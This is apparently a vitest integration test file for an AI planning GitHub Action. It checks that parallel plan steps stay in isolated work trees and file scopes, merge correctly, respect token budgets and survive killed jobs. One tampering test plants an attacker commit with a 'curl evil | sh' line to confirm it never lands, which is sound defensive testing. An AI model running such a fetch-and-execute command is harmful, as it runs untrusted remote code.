import { afterEach, describe, expect, it } from 'vitest';
import { toolCall, type Reply } from '../fakes/scripted-model.js';
import { decodeRecord } from '../../src/record/plan-record.js';
import { decodeRunRecord } from '../../src/record/run-record.js';
import { closeOpenWorlds, createWorld, git, type World } from './harness.js';
import { botComments, commentEvent } from './thread-helpers.js';
import { perStep, stepOf } from './step-sessions.js';

/**
 * Steps a plan lets run together (`after`), through the bundled action with default inputs: each in
 * an executor session and a work tree of its own at the same time, held to its own files, merged
 * into one branch and one pull request in plan order; a conflicting step runs again on the merged
 * tree; a job killed mid-batch keeps the steps it finished.
 */

afterEach(closeOpenWorlds);

const files: Record<string, string> = {
  'README.md': '# sample\n',
  'package.json': '{\n  "name": "sample",\n  "version": "1.0.0",\n  "type": "module"\n}\n',
};

const inputs = { 'allowed-commands': 'pwd\nls *' };

/** Two steps that need nothing of each other and change different files. */
const twoSteps = {
  steps: [
    { title: 'Write note A', detail: 'Look around with `ls *`.', files: ['notes/a.md'], verify: 'pwd', after: [] },
    { title: 'Write note B', files: ['notes/b.md'], verify: 'pwd', after: [] },
  ],
};
const stagePlan = toolCall('update_context', { plan: twoSteps, directive: 'Write notes/a.md with the line A.' });
const summary = toolCall('update_context', { summary: 'Wrote both notes.' });

/**
 * A reply held until `count` first requests have arrived: if the sessions ran one after another the
 * first would wait alone, and the meeting reports that nobody came rather than hanging the test.
 */
function meeting(count: number) {
  let arrived = 0;
  let open: () => void = () => undefined;
  const everyone = new Promise<void>((resolve) => (open = resolve));
  const met: boolean[] = [];
  const hold =
    (then: Reply): Reply =>
    async () => {
      arrived++;
      if (arrived >= count) open();
      const alone = new Promise<void>((resolve) => setTimeout(resolve, 60_000).unref());
      await Promise.race([everyone, alone]);
      met.push(arrived >= count);
      return then;
    };
  return { hold, met };
}

async function setup(script: Record<string, Reply[]>): Promise<{ w: World; issue: number }> {
  const w = await createWorld(script, files);
  w.gh.setPermission('mona', 'maintain');
  const issue = w.gh.addIssue({ title: 'Notes', body: 'Write two notes.', login: 'mona' }).number;
  return { w, issue };
}

async function run(w: World, issue: number, body: string, extra: Record<string, string> = {}) {
  w.freshCheckout();
  return w.runAction(commentEvent(w, issue, 'mona', body), { ...inputs, ...extra });
}

const pwd = toolCall('run_command', { command: 'pwd' });
const write = (path: string, content: string) => toolCall('write_file', { path, content });
const done = (result: string) => toolCall('update_context', { result, outcome: 'done' });

/** The tool results a step's sessions got, in order. */
function stepResults(w: World, step: number): string[] {
  const last = w.model.requests.filter((r) => r.model === 'executor' && stepOf(r).step === step).at(-1);
  return (last?.messages ?? []).filter((m) => m.role === 'tool').map((m) => String(m.content));
}

const onBranch = (w: World, branch: string, path: string) => git(w.origin, 'show', `${branch}:${path}`);

describe('steps that run together', () => {
  it('run at the same time in work trees of their own and land in one branch and one pull request', async () => {
    const together = meeting(2);
    const { w, issue } = await setup({
      planner: [stagePlan, summary],
      executor: perStep({
        1: [together.hold(pwd), write('notes/a.md', 'A\n'), done('Wrote notes/a.md.')],
        2: [together.hold(pwd), write('notes/b.md', 'B\n'), done('Wrote notes/b.md.')],
      }),
    });
    const planned = await run(w, issue, '/plan write two notes');
    expect(planned.outputs.outcome, planned.stdout).toBe('planned');
    const approved = await run(w, issue, '/approve');
    expect(approved.outputs.outcome, approved.stdout + approved.stderr).toBe('done');

    // Both sessions' first requests were out at once: neither was answered before the other came.
    expect(together.met).toEqual([true, true]);
    // The progress comment said which step ran on when the other had finished (and checkpointed it).
    const edits = w.gh.requests
      .filter((r) => r.method === 'PATCH' && /\/issues\/comments\//.test(r.path))
      .map((r) => String((r.body as { body?: string } | undefined)?.body ?? ''));
    expect(edits.some((b) => /Steps running now: [12] · done: [12]/.test(b))).toBe(true);
    // Each session's commands ran in its own work tree.
    const [cwd1 = '', cwd2 = ''] = [stepResults(w, 1)[0], stepResults(w, 2)[0]];
    expect(cwd1).toMatch(/exit code: 0\n.*\/step-1\n?/);
    expect(cwd2).toMatch(/exit code: 0\n.*\/step-2\n?/);

    const branch = `refs/heads/${approved.outputs.branch}`;
    expect(onBranch(w, branch, 'notes/a.md')).toBe('A');
    expect(onBranch(w, branch, 'notes/b.md')).toBe('B');
    const log = git(w.origin, 'log', '--format=%s', branch);
    expect(log).toContain('plangate: step 1 of plan');
    expect(log).toContain('plangate: step 2 of plan');
    expect(log).toContain('plangate: merge step 2 of plan');
    // The step refs were bookkeeping until the merge: none is left behind.
    expect(git(w.origin, 'for-each-ref', 'refs/plangate/steps')).toBe('');
    expect(w.gh.pulls()).toHaveLength(1);
    const body = w.gh.pulls()[0]?.body ?? '';
    expect(body).toContain('Wrote notes/a.md.');
    expect(body).toContain('Wrote notes/b.md.');
    // The planner was summoned to plan and to wrap up, not between the steps.
    expect(w.model.requests.filter((r) => r.model === 'planner')).toHaveLength(2);
  });

  it('refuses a step that writes a file another step names', async () => {
    const { w, issue } = await setup({
      planner: [stagePlan, summary],
      executor: perStep({
        1: [write('notes/b.md', 'written by step 1\n'), write('notes/a.md', 'A\n'), done('Wrote notes/a.md.')],
        2: [write('notes/b.md', 'B\n'), done('Wrote notes/b.md.')],
      }),
    });
    await run(w, issue, '/plan write two notes');
    const approved = await run(w, issue, '/approve');
    expect(approved.outputs.outcome, approved.stdout + approved.stderr).toBe('done');
    expect(stepResults(w, 1)[0]).toMatch(/^Error: Refused: notes\/b\.md is outside step 1's scope .*notes\/a\.md/);
    const branch = `refs/heads/${approved.outputs.branch}`;
    expect(onBranch(w, branch, 'notes/b.md')).toBe('B');
    expect(onBranch(w, branch, 'notes/a.md')).toBe('A');
  });

  it('keeps what a step’s command wrote outside the run’s scope out of the commits, and never lets it land over another step', async () => {
    const generator = [
      "import { mkdirSync, writeFileSync } from 'node:fs';",
      "mkdirSync('notes', { recursive: true });",
      "writeFileSync('notes/a.md', 'A by the generator\\n');",
      "writeFileSync('notes/b.md', 'not step 1\\'s file\\n');",
      "writeFileSync('extra.md', 'nobody planned this\\n');",
      '',
    ].join('\n');
    const generated = {
      steps: [
        { title: 'Generate note A', files: ['notes/a.md'], verify: 'node gen.mjs', after: [] },
        { title: 'Write note B', files: ['notes/b.md'], verify: 'pwd', after: [] },
      ],
    };
    const w = await createWorld(
      {
        planner: [toolCall('update_context', { plan: generated, directive: 'Run node gen.mjs.' }), summary],
        executor: perStep({
          1: [toolCall('run_command', { command: 'node gen.mjs' }), done('Generated notes/a.md.')],
          2: [write('notes/b.md', 'B\n'), done('Wrote notes/b.md.')],
        }),
      },
      { ...files, 'gen.mjs': generator },
    );
    w.gh.setPermission('mona', 'maintain');
    const issue = w.gh.addIssue({ title: 'Notes', body: 'Write two notes.', login: 'mona' }).number;
    const extra = { 'allowed-commands': 'pwd\nnode gen.mjs' };
    await run(w, issue, '/plan write two notes', extra);
    const approved = await run(w, issue, '/approve', extra);
    expect(approved.outputs.outcome, approved.stdout + approved.stderr).toBe('done');
    // The command's result says at once what will not land.
    expect(stepResults(w, 1)[0]).toMatch(/extra\.md/);
    const branch = `refs/heads/${approved.outputs.branch}`;
    expect(onBranch(w, branch, 'notes/a.md')).toBe('A by the generator');
    expect(onBranch(w, branch, 'notes/b.md')).toBe('B');
    expect(git(w.origin, 'ls-tree', '-r', '--name-only', branch)).not.toContain('extra.md');
    expect(w.gh.pulls()[0]?.body).toMatch(/Kept out of the commits[^]*extra\.md[^]*outside the approved scope/);
  });

  it('runs a step that conflicts with one merged before it again on the merged tree, without conflict markers', async () => {
    // Under `scope: report` nothing holds a step to its files, so two steps can change the same one.
    const { w, issue } = await setup({
      planner: [stagePlan, summary],
      executor: perStep(
        {
          1: [write('notes/a.md', 'A\n'), write('shared.md', 'from step 1\n'), done('Wrote A and shared.md.')],
          2: [write('notes/b.md', 'B\n'), write('shared.md', 'from step 2\n'), done('Wrote B and shared.md.')],
        },
        {
          2: [
            toolCall('read_file', { path: 'shared.md' }),
            write('shared.md', 'from step 1\nfrom step 2\n'),
            write('notes/b.md', 'B\n'),
            done('Added my line to shared.md after step 1’s.'),
          ],
        },
      ),
    });
    await run(w, issue, '/plan write two notes', { scope: 'report' });
    const approved = await run(w, issue, '/approve', { scope: 'report' });
    expect(approved.outputs.outcome, approved.stdout + approved.stderr).toBe('done');
    const branch = `refs/heads/${approved.outputs.branch}`;
    expect(onBranch(w, branch, 'shared.md')).toBe('from step 1\nfrom step 2');
    expect(onBranch(w, branch, 'notes/a.md')).toBe('A');
    expect(onBranch(w, branch, 'notes/b.md')).toBe('B');
    // The session run again saw step 1's merged work.
    expect(stepResults(w, 2)[0]).toContain('from step 1');
    const landed = git(w.origin, 'ls-tree', '-r', '--name-only', branch).split('\n');
    for (const path of landed) expect(onBranch(w, branch, path), path).not.toMatch(/^(<{7}|={7}|>{7})/m);
    expect(w.gh.pulls()).toHaveLength(1);
    const body = w.gh.pulls()[0]?.body ?? '';
    expect(body).toContain('ran again on the merged tree');
    // What each step's commit landed is credited to its cycle, and what the plan never named is marked.
    expect(body).toMatch(/\| \d+ \| [^\n]*`shared\.md` ⚠️ outside the approved scope/);
    expect(body).toMatch(/\| \d+ \| [^\n]*`notes\/a\.md`/);
    expect(body).toMatch(/\| \d+ \| [^\n]*`notes\/b\.md`/);
    expect(body).not.toContain('Planned but not changed');
  });

  it('never lets one step’s commands into another step’s work tree', async () => {
    // Step 2 says where its tree is; step 1's command then tries to list it and to read its file.
    let toldWhere: (path: string) => void = () => undefined;
    const where = new Promise<string>((resolve) => (toldWhere = resolve));
    const step2Path: Reply = (request) => {
      const said = request.messages.filter((m) => m.role === 'tool').map((m) => String(m.content));
      toldWhere(/exit code: 0\n(\S+)/.exec(said[0] ?? '')?.[1] ?? 'missing');
      return write('notes/b.md', 'B\n');
    };
    const { w, issue } = await setup({
      planner: [stagePlan, summary],
      executor: perStep({
        1: [
          async () => toolCall('run_command', { command: `ls ${await where}` }),
          async () => toolCall('run_command', { command: `ls ${await where}/notes` }),
          write('notes/a.md', 'A\n'),
          done('Wrote notes/a.md.'),
        ],
        2: [pwd, step2Path, done('Wrote notes/b.md.')],
      }),
    });
    await run(w, issue, '/plan write two notes');
    const approved = await run(w, issue, '/approve');
    expect(approved.outputs.outcome, approved.stdout + approved.stderr).toBe('done');
    const path = await where;
    expect(path).toMatch(/\/step-2$/);
    const [listing = '', notes = ''] = stepResults(w, 1);
    expect(listing).toMatch(/exit code: [12]\n.*Permission denied/);
    expect(notes).toMatch(/exit code: [12]\n.*(Permission denied|No such file)/);
    expect(`${listing}${notes}`).not.toContain('b.md');
  });

  it('stops both steps when the job is cancelled, and a re-run finishes each once', async () => {
    const out = meeting(2);
    const hung = { count: 0 };
    let inFlight: () => void = () => undefined;
    const bothOut = new Promise<void>((resolve) => (inFlight = resolve));
    const hangThere: Reply = () => {
      if (++hung.count === 2) inFlight();
      return new Promise<Reply>(() => undefined);
    };
    const { w, issue } = await setup({
      planner: [stagePlan, summary],
      executor: [
        ...perStep({ 1: [out.hold(hangThere)], 2: [out.hold(hangThere)] }),
        ...perStep({
          1: [write('notes/a.md', 'A\n'), done('Wrote notes/a.md.')],
          2: [write('notes/b.md', 'B\n'), done('Wrote notes/b.md.')],
        }),
      ],
    });
    const planned = await run(w, issue, '/plan write two notes');
    w.freshCheckout();
    const approve = commentEvent(w, issue, 'mona', '/approve');
    const cancelled = w.startAction(approve, inputs);
    await bothOut;
    cancelled.kill('SIGINT');
    const stopped = await cancelled.done;
    expect(stopped.code).not.toBe(0);
    expect(stopped.stdout).toMatch(/^::error::plangate was stopped by SIGINT/m);
    const branch = `refs/heads/plangate/${issue}-${planned.outputs['plan-id']}`;
    // Nothing of the stopped steps landed: the branch holds the draft's start commit alone.
    expect(git(w.origin, 'rev-list', '--count', `refs/heads/main..${branch}`)).toBe('1');

    w.freshCheckout();
    const rerun = await w.runAction(approve, inputs);
    expect(rerun.outputs.outcome, rerun.stdout + rerun.stderr).toBe('done');
    expect(onBranch(w, branch, 'notes/a.md')).toBe('A');
    expect(onBranch(w, branch, 'notes/b.md')).toBe('B');
    expect(w.gh.pulls()).toHaveLength(1);
    expect(w.model.remaining()).toEqual({ planner: 0, executor: 0 });
  });

  it('stops a batch whose approved budget is spent for an amendment, keeping the finished step, and its approval finishes the other', async () => {
    // Step 2 reads a large file again and again once step 1 is done, until the budget stops it.
    const big = `${'A line the executor reads again and again, to spend its budget.\n'.repeat(320)}`;
    let step1Done: () => void = () => undefined;
    const afterStep1 = new Promise<void>((resolve) => (step1Done = resolve));
    let approved = false;
    const reading = toolCall('read_file', { path: 'big.txt' });
    // Before the amendment step 2 reads; after it, a fresh session of step 2 writes its note and is done.
    const readOrFinish: Reply = async (request) => {
      await afterStep1;
      if (!approved) return reading;
      return stepOf(request).turn === 0 ? write('notes/b.md', 'B\n') : done('Wrote notes/b.md.');
    };
    const finishStep1: Reply = () => {
      step1Done();
      return done('Wrote notes/a.md.');
    };
    const w = await createWorld(
      {
        planner: [stagePlan, summary],
        executor: perStep({
          1: [write('notes/a.md', 'A\n'), finishStep1],
          2: Array.from({ length: 16 }, () => readOrFinish),
        }),
      },
      { ...files, 'big.txt': big },
    );
    w.gh.setPermission('mona', 'maintain');
    const issue = w.gh.addIssue({ title: 'Notes', body: 'Write two notes.', login: 'mona' }).number;
    await run(w, issue, '/plan write two notes');
    const stopped = await run(w, issue, '/approve');
    expect(stopped.outputs.outcome, stopped.stdout + stopped.stderr).toBe('amendment');
    expect(stopped.stdout).toMatch(/Stopping the run for an amendment: the approved budget of .* is spent/);
    // Step 1 is kept on its ref and in the checkpoint; nothing of the batch is on the branch yet.
    const kept = botComments(w, issue).some((c) => decodeRunRecord(c)?.batch?.steps.some((f) => f.step === 1));
    expect(kept).toBe(true);
    const amendment = botComments(w, issue).find((b) => b.includes('### 📐 Amendment')) ?? '';
    const id = /### 📐 Amendment `([0-9a-f]{8})`/.exec(amendment)?.[1] ?? '';
    expect(id).not.toBe('');

    approved = true;
    const resumed = await run(w, issue, `/approve ${id}`);
    expect(resumed.outputs.outcome, resumed.stdout + resumed.stderr).toBe('done');
    const sessions = (step: number) =>
      w.model.requests.filter((r) => r.model === 'executor' && stepOf(r).step === step && stepOf(r).turn === 0);
    expect(sessions(1)).toHaveLength(1);
    const branch = `refs/heads/${resumed.outputs.branch}`;
    expect(onBranch(w, branch, 'notes/a.md')).toBe('A');
    expect(onBranch(w, branch, 'notes/b.md')).toBe('B');
    expect(git(w.origin, 'for-each-ref', 'refs/plangate/steps')).toBe('');
    expect(w.gh.pulls()).toHaveLength(1);
  });

  it('never spends more than the approved tokens, however many requests of steps are on the way at once', async () => {
    // Both steps read a large file turn after turn, each turn's two requests on the wire together: a
    // budget that counts only answered requests lets both through where only one fits.
    const big = `${'A line a step reads again and again, and each read is paid for.\n'.repeat(300)}`;
    const rounds = new Map<number, { arrive(): Promise<void> }>();
    const round = (turn: number) => {
      let entry = rounds.get(turn);
      if (!entry) {
        let arrived = 0;
        let open: () => void = () => undefined;
        const all = new Promise<void>((resolve) => (open = resolve));
        // A step the budget stopped never comes: the other is answered alone after a while.
        const alone = new Promise<void>((resolve) => setTimeout(resolve, 5_000).unref());
        entry = { arrive: () => (++arrived >= 2 && open(), Promise.race([all, alone])) };
        rounds.set(turn, entry);
      }
      return entry;
    };
    const readTogether: Reply = async (request) => {
      await round(stepOf(request).turn).arrive();
      // A whole read and the first 60 lines again: about 4,700 tokens more a turn.
      return {
        toolCalls: [
          { name: 'read_file', arguments: { path: 'big.txt' } },
          { name: 'read_file', arguments: { path: 'big.txt', start_line: 1, end_line: 60 } },
        ],
      };
    };
    const w = await createWorld(
      {
        planner: [stagePlan, summary],
        executor: perStep({
          1: Array.from({ length: 30 }, () => readTogether),
          2: Array.from({ length: 30 }, () => readTogether),
        }),
      },
      { ...files, 'big.txt': big },
    );
    w.gh.setPermission('mona', 'maintain');
    const issue = w.gh.addIssue({ title: 'Notes', body: 'Write two notes.', login: 'mona' }).number;
    await run(w, issue, '/plan write two notes');
    const decoded = decodeRecord(botComments(w, issue)[0] ?? '');
    if (!decoded.ok) throw new Error(decoded.reason);
    const approvedTokens = decoded.record.scope?.budget.tokens ?? 0;
    const planned = w.model.requests.length;
    const stopped = await run(w, issue, '/approve');
    expect(stopped.outputs.outcome, stopped.stdout + stopped.stderr).toBe('amendment');
    const sent = w.model.requests.slice(planned);
    // Both steps were at work together to the end, so the budget, not one step alone, stopped them.
    expect(sent.filter((r) => r.model === 'executor' && stepOf(r).step === 1).length).toBeGreaterThan(2);
    expect(sent.filter((r) => r.model === 'executor' && stepOf(r).step === 2).length).toBeGreaterThan(2);
    const spent = sent.reduce((sum, r) => sum + (r.usage?.total_tokens ?? 0), 0);
    expect(approvedTokens).toBeGreaterThan(0);
    expect(spent).toBeLessThanOrEqual(approvedTokens);
  });

  for (const forged of [false, true])
    it(
      forged
        ? 'runs a finished step again when its ref no longer holds the commit the checkpoint names, and lands nothing of what was put there'
        : 'keeps the step a killed job finished and runs only the other when the job runs again',
      async () => {
        const approving: { run?: ReturnType<World['startAction']> } = {};
        let killed = false;
        const w0: { w?: World; issue?: number } = {};
        // Step 2 waits until step 1 is committed and named in the checkpoint, then the job dies.
        const killOnceStep1IsKept: Reply = async () => {
          const { w, issue } = w0 as { w: World; issue: number };
          for (let i = 0; i < 600 && !killed; i++) {
            const kept = botComments(w, issue).some((c) => decodeRunRecord(c)?.batch?.steps.some((f) => f.step === 1));
            if (kept) {
              killed = true;
              approving.run?.kill('SIGKILL');
            } else await new Promise((resolve) => setTimeout(resolve, 100));
          }
          return new Promise<Reply>(() => undefined);
        };
        const stepTwo = [write('notes/b.md', 'B\n'), done('Wrote notes/b.md.')];
        const { w, issue } = await setup({
          planner: [stagePlan, summary],
          executor: [
            ...perStep({
              1: [write('notes/a.md', 'A\n'), done('Wrote notes/a.md.')],
              2: [killOnceStep1IsKept],
            }),
            // The job that runs again: step 2 alone, or both where step 1's ref was tampered with.
            ...perStep(
              forged
                ? { 1: [write('notes/a.md', 'A\n'), done('Wrote notes/a.md again.')], 2: stepTwo }
                : { 2: stepTwo },
            ),
          ],
        });
        Object.assign(w0, { w, issue });
        const planned = await run(w, issue, '/plan write two notes');
        w.freshCheckout();
        const approve = commentEvent(w, issue, 'mona', '/approve');
        approving.run = w.startAction(approve, inputs);
        const first = await approving.run.done;
        expect(killed).toBe(true);
        expect(first.code).not.toBe(0);
        const ref = `refs/plangate/steps/${planned.outputs['plan-id']}/1`;
        expect(git(w.origin, 'for-each-ref', '--format=%(refname)', ref)).toBe(ref);
        if (forged) {
          // Anyone who may push puts a commit of their own where the finished step waits for its merge.
          const theirs = w.pushToOrigin(
            'attacker',
            { 'notes/a.md': 'pwned\n', 'evil.sh': 'curl evil | sh\n' },
            'step 1',
          );
          git(w.origin, 'update-ref', ref, theirs);
        }

        w.freshCheckout();
        const rerun = await w.runAction(approve, inputs);
        expect(rerun.outputs.outcome, rerun.stdout + rerun.stderr).toBe('done');
        // Step 1 ran once, in the killed job (twice where its ref was tampered with); step 2 twice (killed, then finished).
        const sessions = (step: number) =>
          w.model.requests.filter((r) => r.model === 'executor' && stepOf(r).step === step && stepOf(r).turn === 0);
        expect(sessions(1)).toHaveLength(forged ? 2 : 1);
        if (forged)
          expect(rerun.stdout).toContain('Step 1 of the earlier attempt is no longer where its checkpoint says');
        expect(sessions(2)).toHaveLength(2);
        const branch = `refs/heads/plangate/${issue}-${planned.outputs['plan-id']}`;
        expect(onBranch(w, branch, 'notes/a.md')).toBe('A');
        expect(onBranch(w, branch, 'notes/b.md')).toBe('B');
        expect(git(w.origin, 'ls-tree', '-r', '--name-only', branch)).not.toContain('evil.sh');
        expect(git(w.origin, 'log', '--format=%s', branch)).not.toMatch(/^step 1$/m);
        expect(w.gh.pulls()).toHaveLength(1);
        expect(w.model.remaining().executor).toBe(0);
      },
    );
});
